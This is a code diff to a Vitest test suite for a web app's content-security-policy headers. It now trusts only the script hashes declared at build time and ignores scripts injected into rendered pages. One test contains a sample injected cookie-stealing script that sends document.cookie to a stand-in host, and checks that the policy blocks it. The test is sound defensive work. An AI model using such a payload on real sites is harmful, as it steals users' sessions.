@@ -1,40 +1,59 @@
 import { describe, it, expect } from 'vitest';
 import { createHash } from 'node:crypto';
-import { policyFor, withSecurityHeaders } from '../../src/lib/server/security-headers';
+import { pagePolicy, withSecurityHeaders } from '../../src/lib/server/security-headers';
 
 const sha = (s: string) => `'sha256-${createHash('sha256').update(s, 'utf8').digest('base64')}'`;
+const scriptSrc = (policy: string | null) => policy!.split('; ').find((d) => d.startsWith('script-src'))!;
+
+// What Astro (experimental.csp) puts on a page: the hashes of the scripts it wrote itself, known at build time.
+const loader = '(()=>{customElements.define("x-island",class extends HTMLElement{})})();';
+const astroPolicy = `script-src 'self' ${sha(loader)}; style-src 'self' ${sha('astro-island{display:contents}')};`;
 
 describe('content security policy', () => {
-  it('allows exactly the inline scripts of the page by hash, never unsafe-inline scripts', () => {
-    const loader = '(()=>{customElements.define("x-island",class extends HTMLElement{})})();';
-    const html = `<html><head><script type="module" src="/_astro/a.js"></script><script>${loader}</script>
-      <script type="application/json" id="data">{"a":1}</script><script type="module">import "/_astro/b.js";</script></head></html>`;
-    const policy = policyFor(html);
-    const scriptSrc = policy.split('; ').find((d) => d.startsWith('script-src'))!;
-    expect(scriptSrc).toBe(`script-src 'self' ${sha(loader)} ${sha('import "/_astro/b.js";')}`);
-    expect(scriptSrc).not.toContain('unsafe-inline');
+  it('a page allows exactly the scripts Astro hashed at build time, never unsafe-inline', () => {
+    const policy = pagePolicy(astroPolicy);
+    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
+    expect(policy).toContain("style-src 'self' 'unsafe-inline'");
     expect(policy).toContain("frame-ancestors 'none'");
     expect(policy).toContain("object-src 'none'");
   });
 
-  it('a page without inline scripts allows only its own files', () => {
-    expect(policyFor('<p>no scripts</p>')).toContain("script-src 'self'");
-    expect(policyFor('<p>no scripts</p>')).not.toContain('sha256-');
+  it('a script that user content placed in the page is not allowed, even though it is in the HTML', () => {
+    // A record body or a data block that smuggled a <script> into the markup: the old policy hashed every
+    // <script> it found in the rendered page, so this one would have run.
+    const injected = 'fetch("https://elsewhere.example/steal?c="+document.cookie)';
+    const html = `<html><head><script>${loader}</script></head><body><script type="application/json">{"t":"</script><script>${injected}</script>"}</body></html>`;
+    const page = withSecurityHeaders(
+      new Response(html, { headers: { 'content-type': 'text/html', 'content-security-policy': astroPolicy } }),
+    );
+    const policy = page.headers.get('content-security-policy');
+    expect(policy).not.toContain(sha(injected));
+    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
   });
 
-  it('adds the headers to HTML and to other responses, keeping ones a route set', async () => {
-    const page = await withSecurityHeaders(
-      new Response('<script>go()</script>', { headers: { 'content-type': 'text/html' } }),
-    );
-    expect(page.headers.get('content-security-policy')).toContain(sha('go()'));
-    expect(await page.text()).toBe('<script>go()</script>');
-    const json = await withSecurityHeaders(
+  it('only hash sources survive from the declared policy (no unsafe-inline, no hosts)', () => {
+    const policy = pagePolicy(`script-src 'self' 'unsafe-inline' https://cdn.example ${sha(loader)};`);
+    expect(scriptSrc(policy)).toBe(`script-src 'self' ${sha(loader)}`);
+  });
+
+  it('a page without a declared policy allows only its own files', () => {
+    expect(scriptSrc(pagePolicy(null))).toBe("script-src 'self'");
+  });
+
+  it('adds the headers to other responses, keeping ones a route set', async () => {
+    const json = withSecurityHeaders(
       new Response('{}', { headers: { 'content-type': 'application/json', 'referrer-policy': 'no-referrer' } }),
     );
     expect(json.headers.get('x-content-type-options')).toBe('nosniff');
     expect(json.headers.get('referrer-policy')).toBe('no-referrer');
-    expect(json.headers.get('content-security-policy')).toContain("script-src 'self'");
-    const redirect = await withSecurityHeaders(Response.redirect('http://localhost/next', 302));
+    expect(scriptSrc(json.headers.get('content-security-policy'))).toBe("script-src 'self'");
+    const sandboxed = withSecurityHeaders(
+      new Response('a,b', {
+        headers: { 'content-type': 'text/csv', 'content-security-policy': "default-src 'none'; sandbox" },
+      }),
+    );
+    expect(sandboxed.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
+    const redirect = withSecurityHeaders(Response.redirect('http://localhost/next', 302));
     expect(redirect.headers.get('x-frame-options')).toBe('DENY');
   });
 });
